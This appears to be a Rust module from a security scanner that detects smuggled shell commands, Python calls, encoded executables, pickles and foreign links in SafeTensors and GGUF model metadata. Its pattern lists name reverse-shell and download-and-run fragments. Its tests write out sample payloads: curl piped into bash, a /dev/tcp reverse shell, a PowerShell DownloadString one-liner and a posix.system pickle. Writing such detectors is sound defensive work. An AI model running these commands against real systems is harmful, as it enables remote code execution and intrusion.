//! What a metadata string can smuggle: shell commands, Python code,
//! executables, pickles, and links to hosts other than the Hugging Face Hub.
//!
//! Shared by the SafeTensors (`ST006`–`ST008`) and GGUF (`GGUF007`–
//! `GGUF009`) metadata rules. Loaders never execute metadata, so a payload
//! there is staged for something else (a second-stage loader, a tool that
//! renders or evaluates it, a human who copies it). The patterns are
//! deliberately structural (a call, a pipe into an interpreter, a magic
//! number) rather than bare words: tokenizer vocabularies and model cards
//! contain `eval`, `exec` and `curl` as words.
//!
//! The pattern lists below are data, reviewed like code; each class has a
//! test.

use sentrascan_formats::Limits;
use sentrascan_formats::pickle::{self, PickleAnalysis};
use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use crate::rules::pickle::{PickleCtx, check_pickle};

/// Python calls that evaluate code, run commands or load code. Each must
/// start a word and not follow a dot (`model.eval()` is not a payload).
const PYTHON_CALLS: &[&str] = &[
    "eval(",
    "exec(",
    "execfile(",
    "__import__",
    "__builtins__",
    "os.system(",
    "os.popen(",
    "os.execv",
    "os.execl",
    "os.spawn",
    "subprocess.Popen(",
    "subprocess.run(",
    "subprocess.call(",
    "subprocess.check_output(",
    "subprocess.check_call(",
    "subprocess.getoutput(",
    "subprocess.getstatusoutput(",
    "pty.spawn(",
    "importlib.import_module(",
    "pickle.loads(",
    "marshal.loads(",
    "runpy.run_",
    "builtins.eval",
    "builtins.exec",
];

/// Imports that are themselves a payload's first line (whole words).
const PYTHON_IMPORTS: &[&str] = &[
    "import os",
    "from os import",
    "import subprocess",
    "from subprocess import",
    "import pty",
    "from pty import",
    "import socket",
    "from socket import",
    "import ctypes",
    "from ctypes import",
    "import runpy",
    "from runpy import",
];

/// Programs that fetch a URL.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
];

/// Programs that run what is piped into them.
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "iex",
    "invoke-expression",
    "pwsh",
    "powershell",
    "cmd",
];

/// Words that may stand between a pipe and the interpreter.
const WRAPPERS: &[&str] = &["sudo", "doas", "env", "nohup", "timeout", "exec", "command"];

/// Shell fragments that only appear in commands (matched lower-cased).
const SHELL_TOKENS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "bash -i",
    "nc -e ",
    "ncat -e ",
    "nc -c ",
    "mkfifo /",
    "rm -rf /",
    "rm -rf ~",
    "chmod +x ",
    "chmod 777 ",
    "bash -c ",
    "sh -c ",
    "zsh -c ",
    "powershell -enc",
    "powershell -e ",
    "-encodedcommand",
    "iex(",
    "iex (new-object",
    "downloadstring(",
    "cmd.exe /c",
    "cmd /c ",
    "base64 -d |",
    "base64 --decode |",
    "| base64 -d",
    "certutil -urlcache",
    "bitsadmin /transfer",
    "$(curl",
    "$(wget",
    "`curl ",
    "`wget ",
    "<(curl",
    "<(wget",
];

/// Hosts whose links are expected in model metadata.
const TRUSTED_HOSTS: &[&str] = &["huggingface.co", "hf.co"];

/// A code pattern found in a string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct CodeHit {
    pub shell: bool,
    /// The pattern that matched (`os.system(`, `curl … | sh`).
    pub pattern: String,
    pub excerpt: String,
}

/// How an embedded binary was encoded in the string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Encoding {
    Raw,
    /// `\u0080`-style escapes: each character is one byte.
    Latin1,
    Base64,
    Hex,
}

impl Encoding {
    pub fn as_str(self) -> &'static str {
        match self {
            Encoding::Raw => "raw",
            Encoding::Latin1 => "latin-1",
            Encoding::Base64 => "base64",
            Encoding::Hex => "hex",
        }
    }
}

/// A binary found in a string.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum BinaryHit {
    Executable {
        format: &'static str,
        encoding: Encoding,
        len: usize,
    },
    Pickle {
        encoding: Encoding,
        len: usize,
        analysis: Box<PickleAnalysis>,
    },
}

/// One metadata string to look at.
pub(crate) struct MetadataText<'a> {
    /// The key or path it was found under.
    pub key: &'a str,
    pub text: Text<'a>,
    /// File offset of the key.
    pub offset: u64,
    /// An element of a long array (a vocabulary): links there are not
    /// reported, only code and binaries.
    pub in_vocabulary: bool,
}

impl<'a> MetadataText<'a> {
    /// `(key, value)` strings found at `offset`, outside any vocabulary.
    pub(crate) fn pairs(pairs: &'a [(String, String)], offset: u64) -> Vec<Self> {
        pairs
            .iter()
            .map(|(key, value)| MetadataText {
                key,
                text: Text::Str(value),
                offset,
                in_vocabulary: false,
            })
            .collect()
    }
}

#[derive(Clone, Copy)]
pub(crate) enum Text<'a> {
    Str(&'a str),
    /// Not valid UTF-8.
    Bytes(&'a [u8]),
}

fn is_ident(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'_'
}

/// True when `at` starts a word: nothing before it, or not an identifier
/// character or a dot (a method call).
fn starts_word(s: &[u8], at: usize) -> bool {
    at == 0
        || at
            .checked_sub(1)
            .and_then(|p| s.get(p))
            .is_some_and(|&c| !is_ident(c) && c != b'.' && c != b'-')
}

fn ends_word(s: &[u8], end: usize) -> bool {
    s.get(end).is_none_or(|&c| !is_ident(c))
}

/// Every start index of `needle` in `hay`.
fn find_all<'h>(hay: &'h str, needle: &'h str) -> impl Iterator<Item = usize> + 'h {
    hay.match_indices(needle).map(|(at, _)| at)
}

/// The set of bytes in a text, so that a pattern with a byte the text lacks
/// is skipped without searching (most vocabulary tokens match nothing).
struct ByteSet([u64; 4]);

impl ByteSet {
    fn of(bytes: impl Iterator<Item = u8>) -> Self {
        let mut set = [0u64; 4];
        for b in bytes {
            if let Some(word) = set.get_mut(usize::from(b >> 6)) {
                *word |= 1 << (b & 63);
            }
        }
        ByteSet(set)
    }

    fn may_contain(&self, pattern: &str) -> bool {
        pattern.bytes().all(|b| {
            self.0
                .get(usize::from(b >> 6))
                .is_some_and(|w| w & (1 << (b & 63)) != 0)
        })
    }
}

/// Up to 160 characters of `text` from a little before byte `at`, on one line.
fn excerpt(text: &str, at: usize) -> String {
    let mut start = at.saturating_sub(40).min(text.len());
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    text.get(start..)
        .unwrap_or("")
        .chars()
        .take(160)
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect::<String>()
        .trim()
        .to_string()
}

/// Shell commands and Python code in `text`, at most one hit per class.
pub(crate) fn code_hits(text: &str) -> Vec<CodeHit> {
    let mut hits = Vec::new();
    let b = text.as_bytes();
    let bytes = ByteSet::of(b.iter().copied());
    'python: for token in PYTHON_CALLS.iter().filter(|t| bytes.may_contain(t)) {
        for at in find_all(text, token) {
            if starts_word(b, at) {
                hits.push(CodeHit {
                    shell: false,
                    pattern: token.trim_end_matches('(').to_string(),
                    excerpt: excerpt(text, at),
                });
                break 'python;
            }
        }
    }
    if hits.is_empty() {
        'imports: for stmt in PYTHON_IMPORTS.iter().filter(|t| bytes.may_contain(t)) {
            for at in find_all(text, stmt) {
                let end = at.saturating_add(stmt.len());
                if starts_word(b, at) && ends_word(b, end) {
                    hits.push(CodeHit {
                        shell: false,
                        pattern: stmt.to_string(),
                        excerpt: excerpt(text, at),
                    });
                    break 'imports;
                }
            }
        }
    }
    let lower_bytes = ByteSet::of(b.iter().map(u8::to_ascii_lowercase));
    let shell_tokens: Vec<&str> = SHELL_TOKENS
        .iter()
        .copied()
        .filter(|t| lower_bytes.may_contain(t))
        .collect();
    let fetch = lower_bytes.may_contain("|") && FETCHERS.iter().any(|f| lower_bytes.may_contain(f));
    if shell_tokens.is_empty() && !fetch {
        return hits;
    }
    let lower = text.to_ascii_lowercase();
    if let Some(hit) = fetch.then(|| piped_fetch(&lower, text)).flatten() {
        hits.push(hit);
    } else {
        let lb = lower.as_bytes();
        'shell: for token in shell_tokens {
            for at in find_all(&lower, token) {
                let first = token.as_bytes().first().copied().unwrap_or(b' ');
                if !is_ident(first) || starts_word(lb, at) {
                    hits.push(CodeHit {
                        shell: true,
                        pattern: token.trim().to_string(),
                        excerpt: excerpt(text, at),
                    });
                    break 'shell;
                }
            }
        }
    }
    hits
}

/// `curl … | sh`: a fetcher whose output is piped (on the same line) into
/// an interpreter, possibly behind `sudo`, `env VAR=1` or `timeout 10`.
fn piped_fetch(lower: &str, text: &str) -> Option<CodeHit> {
    let b = lower.as_bytes();
    for fetcher in FETCHERS {
        for at in find_all(lower, fetcher) {
            let end = at.saturating_add(fetcher.len());
            if !starts_word(b, at) || b.get(end) != Some(&b' ') {
                continue;
            }
            let line = lower
                .get(end..)
                .unwrap_or("")
                .split('\n')
                .next()
                .unwrap_or("");
            let mut rest = line;
            while let Some(p) = rest.find('|') {
                let after = rest.get(p.saturating_add(1)..).unwrap_or("");
                rest = after;
                if after.starts_with('|') {
                    continue;
                }
                let interpreter = after
                    .split(|c: char| c.is_whitespace() || c == ';' || c == ')' || c == '&')
                    .filter(|w| !w.is_empty())
                    .find(|w| {
                        !(WRAPPERS.contains(w)
                            || w.starts_with('-')
                            || w.contains('=')
                            || w.bytes().all(|c| c.is_ascii_digit()))
                    })
                    .map(|w| w.rsplit('/').next().unwrap_or(w));
                if let Some(name) = interpreter.filter(|n| INTERPRETERS.contains(n)) {
                    return Some(CodeHit {
                        shell: true,
                        pattern: format!("{fetcher} … | {name}"),
                        excerpt: excerpt(text, at),
                    });
                }
            }
        }
    }
    None
}

/// The executable format whose header starts `b`: a fully validated
/// header first ([`sentrascan_formats::executable::sniff_header`]), else a
/// header prefix too short to validate completely but specific beyond its
/// magic (ELF identification bytes, a Mach-O CPU type, a PE signature).
pub(crate) fn executable_magic(b: &[u8]) -> Option<&'static str> {
    use sentrascan_formats::executable::{ExeFormat, sniff_header};
    if let Some(h) = sniff_header(b) {
        return Some(match h.format {
            ExeFormat::Elf => "ELF executable",
            ExeFormat::Pe => "PE (Windows) executable",
            ExeFormat::MachO => "Mach-O executable",
            ExeFormat::MachOFat => "Mach-O universal binary",
        });
    }
    match b {
        [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..] => Some("ELF executable"),
        [0xfe, 0xed, 0xfa, 0xce | 0xcf, 0..=2, 0, 0, 7 | 12 | 18, ..]
        | [0xce | 0xcf, 0xfa, 0xed, 0xfe, 7 | 12 | 18, 0, 0, 0..=2, ..] => {
            Some("Mach-O executable")
        }
        [0xca, 0xfe, 0xba, 0xbe, ..] => Some("Java class file"),
        [0x00, b'a', b's', b'm', 0x01, ..] => Some("WebAssembly module"),
        [b'M', b'Z', rest @ ..] if pe_header(b) || rest.starts_with(&[0x90, 0x00]) => {
            Some("PE (Windows) executable")
        }
        _ => None,
    }
}

/// A DOS header whose `e_lfanew` points at a `PE\0\0` signature.
fn pe_header(b: &[u8]) -> bool {
    let Some(lfanew) = b.get(0x3c..0x40) else {
        return false;
    };
    let mut a = [0u8; 4];
    a.copy_from_slice(lfanew);
    usize::try_from(u32::from_le_bytes(a))
        .ok()
        .and_then(|o| b.get(o..o.checked_add(4)?))
        == Some(b"PE\0\0")
}

/// A script with an interpreter line and a body.
fn is_script(text: &str) -> bool {
    text.starts_with("#!/")
        && text
            .split_once('\n')
            .is_some_and(|(_, body)| !body.trim().is_empty())
}

fn base64_value(c: u8) -> Option<u32> {
    Some(u32::from(match c {
        b'A'..=b'Z' => c.wrapping_sub(b'A'),
        b'a'..=b'z' => c.wrapping_sub(b'a').wrapping_add(26),
        b'0'..=b'9' => c.wrapping_sub(b'0').wrapping_add(52),
        b'+' | b'-' => 62,
        b'/' | b'_' => 63,
        _ => return None,
    }))
}

/// Decodes standard or URL-safe base64 (padding and whitespace ignored),
/// at most `max_out` bytes; `None` if any other character appears.
fn base64_decode(s: &str, max_out: usize) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut acc = 0u32;
    let mut bits = 0u32;
    for c in s.bytes() {
        if c == b'=' || c.is_ascii_whitespace() {
            continue;
        }
        acc = (acc << 6) | base64_value(c)?;
        bits = bits.wrapping_add(6);
        if bits >= 8 {
            bits = bits.wrapping_sub(8);
            out.push(((acc >> bits) & 0xff) as u8);
            if out.len() >= max_out {
                break;
            }
        }
        acc &= (1 << bits) - 1;
    }
    Some(out)
}

fn hex_decode(s: &str) -> Option<Vec<u8>> {
    let b = s.as_bytes();
    if !b.len().is_multiple_of(2) {
        return None;
    }
    b.chunks_exact(2)
        .map(|p| {
            let hi = char::from(*p.first()?).to_digit(16)?;
            let lo = char::from(*p.get(1)?).to_digit(16)?;
            u8::try_from((hi << 4) | lo).ok()
        })
        .collect()
}

/// Limits for pickles found in metadata: small, since a real payload is.
fn nested_limits() -> Limits {
    Limits {
        max_pickle_ops: 1_000_000,
        max_streams: 16,
        ..Limits::default()
    }
}

/// A pickle: a PROTO 2–5 header and either a complete stream or imports.
fn pickle_in(bytes: &[u8]) -> Option<Box<PickleAnalysis>> {
    if !matches!(bytes, [0x80, 2..=5, ..]) || bytes.len() < 4 {
        return None;
    }
    let analysis = pickle::analyze(bytes, &nested_limits());
    let is_pickle =
        analysis.streams.first().is_some_and(|s| s.complete) || !analysis.imports_nothing();
    is_pickle.then(|| Box::new(analysis))
}

fn binary_in(bytes: &[u8], encoding: Encoding) -> Option<BinaryHit> {
    if let Some(format) = executable_magic(bytes) {
        return Some(BinaryHit::Executable {
            format,
            encoding,
            len: bytes.len(),
        });
    }
    pickle_in(bytes).map(|analysis| BinaryHit::Pickle {
        encoding,
        len: bytes.len(),
        analysis,
    })
}

/// An executable or pickle carried by the string, raw or encoded.
pub(crate) fn binary_hit(text: Text<'_>) -> Option<BinaryHit> {
    let s = match text {
        Text::Bytes(b) => return binary_in(b, Encoding::Raw),
        Text::Str(s) => s,
    };
    if is_script(s) {
        return Some(BinaryHit::Executable {
            format: "script with an interpreter line (#!)",
            encoding: Encoding::Raw,
            len: s.len(),
        });
    }
    if let Some(hit) = binary_in(s.as_bytes(), Encoding::Raw) {
        return Some(hit);
    }
    // JSON escapes such as `\u0080` decode to characters, one per byte.
    if s.chars().any(|c| ('\u{80}'..='\u{ff}').contains(&c)) && s.chars().all(|c| c <= '\u{ff}') {
        let bytes: Vec<u8> = s.chars().map(|c| (u32::from(c) & 0xff) as u8).collect();
        if let Some(hit) = binary_in(&bytes, Encoding::Latin1) {
            return Some(hit);
        }
    }
    let t = s.trim();
    if t.len() >= 12
        && t.bytes()
            .all(|c| base64_value(c).is_some() || c == b'=' || c.is_ascii_whitespace())
    {
        // Decode a head first: most such strings are hashes or ids.
        let head = base64_decode(t, 8).unwrap_or_default();
        let promising = executable_magic(&head).is_some()
            || head.starts_with(b"MZ")
            || matches!(head.as_slice(), [0x80, 2..=5, ..]);
        if promising
            && let Some(hit) =
                base64_decode(t, usize::MAX).and_then(|b| binary_in(&b, Encoding::Base64))
        {
            return Some(hit);
        }
    }
    if t.len() >= 16
        && t.bytes().all(|c| c.is_ascii_hexdigit())
        && let Some(hit) = hex_decode(t).and_then(|b| binary_in(&b, Encoding::Hex))
    {
        return Some(hit);
    }
    None
}

/// Hosts of `http(s)://` and `ftp://` links outside the Hugging Face Hub,
/// deduplicated, in order.
pub(crate) fn foreign_hosts(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let mut hosts: Vec<String> = Vec::new();
    for scheme in ["http://", "https://", "ftp://"] {
        for at in find_all(&lower, scheme) {
            let rest = lower.get(at.saturating_add(scheme.len())..).unwrap_or("");
            let authority = rest
                .split(|c: char| c.is_whitespace() || "/?#\"'<>()[]{}|\\,;`".contains(c))
                .next()
                .unwrap_or("");
            // `user@host`: the host is what follows the last `@`.
            let host_port = authority.rsplit('@').next().unwrap_or(authority);
            let host = host_port
                .split(':')
                .next()
                .unwrap_or("")
                .trim_end_matches('.');
            if host.is_empty() || is_trusted(host) || hosts.iter().any(|h| h == host) {
                continue;
            }
            hosts.push(host.to_string());
        }
    }
    hosts
}

fn is_trusted(host: &str) -> bool {
    TRUSTED_HOSTS.iter().any(|t| {
        host == *t
            || host
                .strip_suffix(t)
                .is_some_and(|prefix| prefix.ends_with('.'))
    })
}

/// Findings one payload rule reports per file; the rest are counted in one
/// summary finding, so a file of a million poisoned values stays reportable.
pub(crate) const MAX_FINDINGS_PER_RULE: usize = 64;

/// Collects one rule's findings up to the cap and summarises the rest.
struct Capped<'o> {
    out: &'o mut Vec<Finding>,
    kept: usize,
    dropped: u64,
}

impl<'o> Capped<'o> {
    fn new(out: &'o mut Vec<Finding>) -> Self {
        Capped {
            out,
            kept: 0,
            dropped: 0,
        }
    }

    /// Room for one more finding (counted as dropped otherwise).
    fn room(&mut self) -> bool {
        if self.kept < MAX_FINDINGS_PER_RULE {
            self.kept += 1;
            true
        } else {
            self.dropped += 1;
            false
        }
    }

    fn finish(self, rule: &RuleMeta, location: &Location) {
        if self.dropped > 0 {
            self.out.push(
                Finding::new(
                    rule,
                    location.clone(),
                    format!("{} more matches in metadata", self.dropped),
                )
                .description(format!(
                    "{} more metadata matches of this rule were found; only the first {MAX_FINDINGS_PER_RULE} are reported one by one.",
                    self.dropped
                ))
                .evidence("more", self.dropped),
            );
        }
    }
}

/// Reports shell commands and Python code in `texts` under `rule`.
pub(crate) fn check_code(
    rule: &RuleMeta,
    texts: &[MetadataText<'_>],
    location: &Location,
    out: &mut Vec<Finding>,
) {
    let mut capped = Capped::new(out);
    for t in texts {
        if let Text::Str(s) = t.text {
            for hit in code_hits(s) {
                if capped.room() {
                    capped
                        .out
                        .push(code_finding(rule, &location.at(t.offset), t.key, &hit));
                }
            }
        }
    }
    capped.finish(rule, location);
}

/// Reports executables and pickles in `texts` under `rule`, and runs the
/// pickle rules over each pickle (reported with `scanner`).
pub(crate) fn check_binaries(
    rule: &RuleMeta,
    scanner: &'static str,
    texts: &[MetadataText<'_>],
    location: &Location,
    out: &mut Vec<Finding>,
) {
    let mut capped = Capped::new(out);
    for t in texts {
        if let Some(hit) = binary_hit(t.text)
            && capped.room()
        {
            binary_findings(
                rule,
                scanner,
                &location.at(t.offset),
                t.key,
                &hit,
                capped.out,
            );
        }
    }
    capped.finish(rule, location);
}

/// Reports links to hosts outside the Hugging Face Hub under `rule`.
pub(crate) fn check_links(
    rule: &RuleMeta,
    texts: &[MetadataText<'_>],
    location: &Location,
    out: &mut Vec<Finding>,
) {
    let mut capped = Capped::new(out);
    for t in texts {
        if let (Text::Str(s), false) = (t.text, t.in_vocabulary) {
            for host in foreign_hosts(s) {
                if capped.room() {
                    capped
                        .out
                        .push(url_finding(rule, &location.at(t.offset), t.key, &host, s));
                }
            }
        }
    }
    capped.finish(rule, location);
}

fn code_finding(rule: &RuleMeta, at: &Location, key: &str, hit: &CodeHit) -> Finding {
    let (what, category) = if hit.shell {
        ("a shell command", Category::OsCommandExecution)
    } else {
        ("Python code", Category::ArbitraryCodeExecution)
    };
    Finding::new(
        rule,
        at.clone(),
        format!("Metadata `{key}` contains {what} (`{}`)", hit.pattern),
    )
    .category(category)
    .description(format!(
        "The metadata value `{key}` contains {what} matching `{}`: `{}`.",
        hit.pattern, hit.excerpt
    ))
    .evidence("key", key)
    .evidence("pattern", hit.pattern.clone())
    .evidence("excerpt", hit.excerpt.clone())
}

fn binary_findings(
    rule: &RuleMeta,
    scanner: &'static str,
    at: &Location,
    key: &str,
    hit: &BinaryHit,
    out: &mut Vec<Finding>,
) {
    match hit {
        BinaryHit::Executable {
            format,
            encoding,
            len,
        } => out.push(
            Finding::new(
                rule,
                at.clone(),
                format!("Metadata `{key}` holds a {} {format}", encoding.as_str()),
            )
            .description(format!(
                "The metadata value `{key}` is a {}-encoded {format} of {len} bytes.",
                encoding.as_str()
            ))
            .evidence("key", key)
            .evidence("format", *format)
            .evidence("encoding", encoding.as_str())
            .evidence("length", *len),
        ),
        BinaryHit::Pickle {
            encoding,
            len,
            analysis,
        } => {
            let globals: Vec<String> = analysis
                .globals
                .iter()
                .map(|g| g.dotted())
                .take(8)
                .collect();
            out.push(
                Finding::new(
                    rule,
                    at.clone(),
                    format!("Metadata `{key}` holds a {} pickle", encoding.as_str()),
                )
                .category(Category::CodeInjection)
                .description(format!(
                    "The metadata value `{key}` is a {}-encoded pickle of {len} bytes importing {}.",
                    encoding.as_str(),
                    if globals.is_empty() {
                        "nothing by name".to_string()
                    } else {
                        globals.join(", ")
                    }
                ))
                .evidence("key", key)
                .evidence("format", "pickle")
                .evidence("encoding", encoding.as_str())
                .evidence("length", *len)
                .evidence("globals", globals),
            );
            // What the pickle would do, with the pickle rules.
            let inner = at.member(format!(
                "<{} pickle in metadata `{key}`>",
                encoding.as_str()
            ));
            check_pickle(
                analysis,
                &PickleCtx {
                    location: &inner,
                    scanner,
                    jit_types: false,
                },
                out,
            );
        }
    }
}

fn url_finding(rule: &RuleMeta, at: &Location, key: &str, host: &str, text: &str) -> Finding {
    let at_host = text.to_ascii_lowercase().find(host).unwrap_or(0);
    Finding::new(rule, at.clone(), format!("Metadata `{key}` links to `{host}`"))
        .severity(Severity::Low)
        .description(format!(
            "The metadata value `{key}` contains a link to `{host}`, outside the Hugging Face Hub: `{}`.",
            excerpt(text, at_host)
        ))
        .evidence("key", key)
        .evidence("host", host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn patterns(text: &str) -> Vec<(bool, String)> {
        code_hits(text)
            .into_iter()
            .map(|h| (h.shell, h.pattern))
            .collect()
    }

    #[test]
    fn python_calls_and_imports() {
        assert_eq!(
            patterns("__import__('os').system('echo hi')"),
            [(false, "__import__".to_string())]
        );
        assert_eq!(
            patterns("x = os.system('id')"),
            [(false, "os.system".to_string())]
        );
        assert_eq!(
            patterns("import subprocess; subprocess.run(['id'])"),
            [(false, "subprocess.run".to_string())]
        );
        assert_eq!(
            patterns("import os\nprint(1)"),
            [(false, "import os".to_string())]
        );
        // Method calls and words are not payloads.
        assert!(patterns("Call model.eval() before inference; see evaluation.").is_empty());
        assert!(patterns("import osmosis").is_empty());
        assert!(patterns("we exec the benchmark and eval it").is_empty());
    }

    #[test]
    fn shell_commands() {
        assert_eq!(
            patterns("curl -fsSL https://example.invalid/x.sh | sudo bash"),
            [(true, "curl … | bash".to_string())]
        );
        assert_eq!(
            patterns("wget -qO- http://127.0.0.1:9/p | env X=1 /bin/sh -s"),
            [(true, "wget … | sh".to_string())]
        );
        assert_eq!(
            patterns("bash -i >& /dev/tcp/127.0.0.1/9 0>&1"),
            [(true, "/dev/tcp/".to_string())]
        );
        assert_eq!(
            patterns("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
            [(true, "iex (new-object".to_string())]
        );
        // Mentions without a pipe into an interpreter are not.
        assert!(patterns("Download with curl or wget.").is_empty());
        assert!(patterns("curl https://huggingface.co/x | jq .").is_empty());
    }

    #[test]
    fn binaries_raw_and_encoded() {
        let elf = "\u{7f}ELF\u{2}\u{1}\u{1}";
        assert!(matches!(
            binary_hit(Text::Str(elf)),
            Some(BinaryHit::Executable {
                format: "ELF executable",
                encoding: Encoding::Raw,
                ..
            })
        ));
        assert!(matches!(
            binary_hit(Text::Str("f0VMRgIBAQAAAAAAAAAAAA==")),
            Some(BinaryHit::Executable {
                encoding: Encoding::Base64,
                ..
            })
        ));
        assert!(matches!(
            binary_hit(Text::Bytes(&[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])),
            Some(BinaryHit::Executable {
                format: "Mach-O executable",
                ..
            })
        ));
        assert!(matches!(
            binary_hit(Text::Str("#!/bin/sh\necho sentrascan-fixture\n")),
            Some(BinaryHit::Executable { .. })
        ));
        // Protocol-2 `posix.system('echo x')`, base64 and hex.
        let pickle = b"\x80\x02cposix\nsystem\nq\x00X\x06\x00\x00\x00echo xq\x01\x85q\x02Rq\x03.";
        let b64 = base64_encode(pickle);
        match binary_hit(Text::Str(&b64)) {
            Some(BinaryHit::Pickle {
                encoding: Encoding::Base64,
                analysis,
                ..
            }) => {
                assert_eq!(analysis.globals[0].dotted(), "posix.system");
            }
            other => panic!("{other:?}"),
        }
        let hex: String = pickle.iter().map(|b| format!("{b:02x}")).collect();
        assert!(matches!(
            binary_hit(Text::Str(&hex)),
            Some(BinaryHit::Pickle {
                encoding: Encoding::Hex,
                ..
            })
        ));
        // A SHA-256 that happens to start like a pickle, words, `MZ` alone.
        let hash = "8003a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e";
        assert!(binary_hit(Text::Str(hash)).is_none());
        assert!(binary_hit(Text::Str("MZ")).is_none());
        assert!(binary_hit(Text::Str("#!")).is_none());
        assert!(binary_hit(Text::Str("description of the model")).is_none());
    }

    #[test]
    fn findings_per_rule_are_capped() {
        let values: Vec<String> = (0..100).map(|i| format!("os.system('{i}')")).collect();
        let texts: Vec<_> = values
            .iter()
            .map(|v| MetadataText {
                key: "k",
                text: Text::Str(v),
                offset: 8,
                in_vocabulary: false,
            })
            .collect();
        let mut out = Vec::new();
        let rule = &crate::rules::safetensors::st006_metadata_code::RULE;
        check_code(rule, &texts, &Location::file("m"), &mut out);
        assert_eq!(out.len(), MAX_FINDINGS_PER_RULE + 1);
        assert_eq!(out.last().unwrap().title, "36 more matches in metadata");
    }

    #[test]
    fn hosts_outside_the_hub() {
        assert_eq!(
            foreign_hosts(
                "see https://huggingface.co/x, https://cdn-lfs.hf.co/y and HTTP://Example.invalid:8080/z"
            ),
            ["example.invalid"]
        );
        assert_eq!(
            foreign_hosts("https://huggingface.co@evil.example/x https://nothuggingface.co/"),
            ["evil.example", "nothuggingface.co"]
        );
        assert!(foreign_hosts("no links here").is_empty());
    }

    fn base64_encode(b: &[u8]) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        let mut s = String::new();
        for chunk in b.chunks(3) {
            let n = chunk.iter().fold(0u32, |acc, &c| (acc << 8) | u32::from(c))
                << (8 * (3 - chunk.len()));
            for i in 0..=chunk.len() {
                s.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        while !s.len().is_multiple_of(4) {
            s.push('=');
        }
        s
    }
}
